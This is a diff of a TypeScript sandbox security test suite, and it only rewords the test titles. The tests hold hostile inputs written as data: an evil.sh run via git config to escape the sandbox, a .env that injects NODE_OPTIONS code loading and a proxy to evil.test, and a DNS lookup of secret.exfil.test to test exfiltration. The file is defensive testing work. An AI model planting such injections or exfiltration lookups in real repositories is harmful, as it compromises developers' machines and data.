@@ -10,7 +10,7 @@ import { openWorkspace, type Workspace } from '../../../src/workspace/open-works
 import { temporaryDirectory } from '../../support/temporary-directory.js'
 import { describeWithBubblewrap } from './support/needs-bubblewrap.js'
 
-describeWithBubblewrap('a repository that is not to be trusted', () => {
+describeWithBubblewrap('an untrusted repository', () => {
   let base: string
   let root: string
   let workspace: Workspace
@@ -30,7 +30,7 @@ describeWithBubblewrap('a repository that is not to be trusted', () => {
     await workspace.close()
   })
 
-  it('SEC-097 has its git configuration run a program: it stays inside', async () => {
+  it('SEC-097 whose git configuration runs a program: the program stays inside', async () => {
     const outside = join(base, 'PWN')
     await writeFile(join(root, 'evil.sh'), `#!/bin/sh\ntouch ${outside} 2>/dev/null\ntouch inside\n`, {
       mode: 0o755,
@@ -43,7 +43,7 @@ describeWithBubblewrap('a repository that is not to be trusted', () => {
     expect(existsSync(outside)).toBe(false)
   })
 
-  it('SEC-142 has a .env: nothing of it comes into our process or a command', async () => {
+  it('SEC-142 with a .env: nothing of it reaches this process or a command', async () => {
     await writeFile(
       join(root, '.env'),
       'NODE_OPTIONS=--require=./evil.cjs\nCAPSTAN_HOME=./evil\nHTTPS_PROXY=http://evil.test\n',
@@ -53,7 +53,7 @@ describeWithBubblewrap('a repository that is not to be trusted', () => {
     expect(process.env['CAPSTAN_HOME']).toBeUndefined()
   })
 
-  it('SEC-169 cannot send anything out through names: there is no resolver inside', async () => {
+  it('SEC-169 cannot send data out through names: there is no resolver inside', async () => {
     const { output } = await workspace.shell.run(
       'getent hosts secret.exfil.test || echo nothing; cat /proc/net/route | wc -l',
     )
